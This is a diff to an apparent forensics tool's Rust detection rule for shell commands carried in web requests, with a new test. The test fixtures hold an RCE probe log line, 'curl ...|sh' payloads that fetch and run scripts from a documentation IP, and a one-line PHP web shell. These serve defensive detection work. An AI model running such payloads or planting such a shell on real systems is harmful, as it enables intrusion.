@@ -17,6 +17,7 @@ use minetrace_schemas::escape_bytes;
 use minetrace_schemas::findings::{Finding, Role, Severity};
 use minetrace_schemas::records::file::FileRecord;
 
+use super::webshells;
 use crate::detect::finding::{file_subject, finding, FindingExt};
 use crate::detect::rules;
 use crate::detect::runtime::support::{service_of, Names};
@@ -84,15 +85,35 @@ fn requests_by_path<'a, T>(
     by_path
 }
 
-/// `MT-ENT-001`, one finding per requested script.
+/// Whether a logged request reached the script it names: a 2xx or 3xx answer. A 5xx is a proxy whose
+/// backend was down (502, 503, 504) or a page that failed: it ran no command the log can vouch for.
+fn reached(l: &ServiceLogLine) -> bool {
+    matches!(&l.log.event, LogEvent::WebRequest { status, .. } if (200..400).contains(status))
+}
+
+/// `MT-ENT-001`, one finding per requested script. The log names a path, and any client sends any query
+/// to any page (the internet's ThinkPHP probe asks every `index.php` to `wget` a kit; a
+/// `GET /wp-config.php?x=curl ...|sh` picks its own page): a script at that path is the finding's
+/// artifact (high) only when it is itself the intrusion's ([`webshells::Judge::intrusions`]: its content
+/// is a web shell's, or it lies where an application keeps no code). Any other page is the application
+/// that was asked, context a remediation never touches, and the finding stays low: the log is the
+/// evidence.
 fn web_commands(ctx: &Context) -> Vec<Finding> {
+    let judge = webshells::Judge::new(ctx);
     let mut out = Vec::new();
     for (script, hits) in requests_by_path(ctx, |t| request_command(t, ctx.iocs)) {
-        let files = scripts_at(ctx, &script);
-        let severity = if files.is_empty() {
-            Severity::Low
-        } else {
+        let hits: Vec<_> = hits.into_iter().filter(|(l, _)| reached(l)).collect();
+        if hits.is_empty() {
+            continue;
+        }
+        let files: Vec<(&FileRecord, Option<String>)> = scripts_at(ctx, &script)
+            .into_iter()
+            .map(|f| (f, judge.intrusions(ctx, f)))
+            .collect();
+        let severity = if files.iter().any(|(_, why)| why.is_some()) {
             Severity::High
+        } else {
+            Severity::Low
         };
         let mut f = finding(&rules::ENT_001, severity).evidence(format!(
             "{} request(s) to {} carried a shell command",
@@ -109,10 +130,16 @@ fn web_commands(ctx: &Context) -> Vec<Finding> {
         if files.is_empty() {
             f = f.evidence("no script at that path is on disk now (the log is the evidence)");
         }
-        for file in files {
-            f = f
-                .subject(file_subject(file))
-                .evidence(format!("the script on disk: {}", file.path.escaped()));
+        for (file, why) in files {
+            f = match why {
+                Some(why) => f
+                    .subject(file_subject(file))
+                    .evidence(format!("the script on disk: {} ({why})", file.path.escaped())),
+                None => f.subject_as(file_subject(file), Role::Context).evidence(format!(
+                    "a page on disk at that path: {} (nothing in it or its place says the intrusion made it: the application asked, never removed)",
+                    file.path.escaped()
+                )),
+            };
         }
         out.push(f);
     }
@@ -362,6 +389,87 @@ mod tests {
         assert_eq!(found.len(), 1);
         assert_eq!(found[0].severity, Severity::Low);
         assert!(found[0].subjects.is_empty());
+    }
+
+    /// Review of train 2, item 2: a logged request alone never makes a web-root page an artifact. The
+    /// ThinkPHP probe (answered 200 by WordPress: a search) and a `wp-config.php?x=curl ...|sh` leave
+    /// every `index.php` and `wp-config.php` context of a low finding, and the plan acts on none; a 504
+    /// to a real web shell reached nothing; a web shell a request reached stays high, its artifact.
+    #[test]
+    fn a_request_alone_makes_no_page_an_artifact() {
+        let log: &[u8] = b"198.51.100.7 - - [10/Jun/2025:11:02:16 +0000] \"GET /index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget%20http://198.51.100.7/t.sh%20-O%20/tmp/t.sh;sh%20/tmp/t.sh HTTP/1.1\" 200 5120\n\
+198.51.100.7 - - [10/Jun/2025:11:02:17 +0000] \"GET /wp-config.php?x=curl+http://198.51.100.7/b%7Csh HTTP/1.1\" 200 0\n\
+198.51.100.7 - - [10/Jun/2025:11:02:18 +0000] \"GET /wp-content/uploads/2025/06/up.php?c=curl+-fsSL+http://198.51.100.7/k.sh%7Csh HTTP/1.1\" 504 160\n";
+        let shell_hit: &[u8] = b"198.51.100.7 - - [10/Jun/2025:11:03:00 +0000] \"GET /wp-content/uploads/2025/06/up.php?c=curl+-fsSL+http://198.51.100.7/k.sh%7Csh HTTP/1.1\" 200 0\n";
+        let model = |log: &[u8]| {
+            fixture::model(
+                vec![
+                    fixture::file(b"/var/log/nginx/access.log", Some(log)),
+                    fixture::file(
+                        b"/var/www/html/index.php",
+                        Some(b"<?php\ndefine( 'WP_USE_THEMES', true );\nrequire __DIR__ . '/wp-blog-header.php';\n"),
+                    ),
+                    fixture::file(
+                        b"/var/www/html/wp-admin/index.php",
+                        Some(b"<?php\nrequire_once __DIR__ . '/admin.php';\n"),
+                    ),
+                    fixture::file(
+                        b"/var/www/html/wp-content/themes/twentytwentyfour/index.php",
+                        Some(b"<?php\n// Silence is golden.\n"),
+                    ),
+                    fixture::file(
+                        b"/var/www/html/wp-config.php",
+                        Some(b"<?php\ndefine( 'DB_NAME', 'wp' );\n"),
+                    ),
+                    fixture::file(
+                        b"/var/www/html/wp-content/uploads/2025/06/up.php",
+                        Some(b"<?php system($_GET['c']); ?>\n"),
+                    ),
+                ],
+                vec![],
+            )
+        };
+        let iocs = Indicators::builtin();
+        let probed = model(log);
+        let found = detect(&Context {
+            model: &probed,
+            iocs: &iocs,
+        });
+        let ent: Vec<&Finding> = found.iter().filter(|f| f.rule == "MT-ENT-001").collect();
+        assert_eq!(ent.len(), 2, "{found:#?}");
+        for f in &ent {
+            assert_eq!(f.severity, Severity::Low, "{f:#?}");
+            assert!(!f.subjects.is_empty(), "{f:#?}");
+            assert!(f.subjects.iter().all(|s| s.role == Role::Context), "{f:#?}");
+        }
+        let plan = crate::remediate::test_plan::plan_of(
+            model(log),
+            crate::remediate::test_plan::doc(found),
+        );
+        let acted = format!("{:?}", plan.items);
+        assert!(
+            !acted.contains("index.php") && !acted.contains("wp-config.php"),
+            "{acted}"
+        );
+        let mut both = log.to_vec();
+        both.extend_from_slice(shell_hit);
+        let used = model(&both);
+        let found = detect(&Context {
+            model: &used,
+            iocs: &iocs,
+        });
+        let shell = found
+            .iter()
+            .find(|f| {
+                f.rule == "MT-ENT-001"
+                    && f.evidence.first().is_some_and(|e| {
+                        e.starts_with("1 request(s) to /wp-content/uploads/2025/06/up.php")
+                    })
+            })
+            .unwrap_or_else(|| panic!("{found:#?}"));
+        assert_eq!(shell.severity, Severity::High);
+        assert!(shell.subjects.iter().any(|s| s.role == Role::Artifact
+            && matches!(&s.subject, minetrace_schemas::findings::Subject::File { path, .. } if path.as_bytes() == b"/var/www/html/wp-content/uploads/2025/06/up.php")));
     }
 
     /// An injection into an application's page is evidence of how the attacker tried to get in, never a
